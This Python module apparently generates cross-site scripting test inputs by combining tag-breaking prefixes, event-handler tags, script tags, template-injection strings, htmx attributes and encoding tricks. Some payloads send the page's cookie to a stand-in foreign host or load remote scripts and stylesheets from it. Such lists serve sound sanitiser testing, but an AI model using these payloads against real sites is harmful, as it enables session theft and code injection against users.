"""Words that would run where a page does not escape them: each calls something, or asks a foreign address."""

from __future__ import annotations

from itertools import product

CALLS = ("xss(1)", "alert(1)", "fetch('//foreign.example/'+document.cookie)", "top['xss'](1)", "eval(atob('eHNzKDEp'))")
HANDLERS = (
    "img src=x onerror={}",
    "svg onload={}",
    "body onload={}",
    "input autofocus onfocus={}",
    "details open ontoggle={}",
    "video src=x onerror={}",
    "audio src=x onerror={}",
    "marquee onstart={}",
    "iframe onload={}",
    "object data=x onerror={}",
    "select autofocus onfocus={}",
    "textarea autofocus onfocus={}",
    "style onload={}",
    "svg><animate onbegin={} attributeName=x dur=1s",
    "div style=animation-name:x onanimationstart={}",
    "x contenteditable onfocus={} autofocus tabindex=1",
    "img/src=x/onerror={}",
)
BREAKS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</style>", "</option></select>")
OTHERS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//foreign.example/x.js></script>",
    "<scr<script>ipt>{}</script>",
    '" onmouseover="{}" autofocus onfocus="{}" x="',
    "' onfocus='{}' autofocus x='",
    "javascript:{}//",
    "<a href=javascript:{} id=x>x</a>",
    "<form action=javascript:{}><input type=submit autofocus></form>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//foreign.example/>",
    "<link rel=stylesheet href=//foreign.example/x.css>",
    "<style>@import '//foreign.example/x.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<svg><script>{}</script></svg>",
    "<template><script>{}</script></template>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{% if 1 %}}{}{{% endif %}}",
    "<!--><img src=x onerror={}>",
    "<img src='//foreign.example/p.png'>",
    "<div hx-get='//foreign.example/' hx-trigger='load'>x</div>",
    "<div hx-on:load='{}' hx-get='/queue/rows' hx-trigger='load'>x</div>",
    "<b id=x hx-vals='js:{{a:{}}}' hx-post='/language' hx-trigger=load>x</b>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "＜script＞{}＜/script＞",
    "<script\x0c>{}</script>",
    "\u202e<script>{}</script>",
    "data:text/html,<script>{}</script>",
)


def payloads() -> list[str]:
    """All of them, each once."""
    found = [before + f"<{tag.format(call)}>" for before, tag, call in product(BREAKS, HANDLERS, CALLS[:2])]
    found += [
        words.format(call, call) if words.count("{}") == 2 else words.format(call) for words in OTHERS for call in CALLS
    ]
    return list(dict.fromkeys(found))
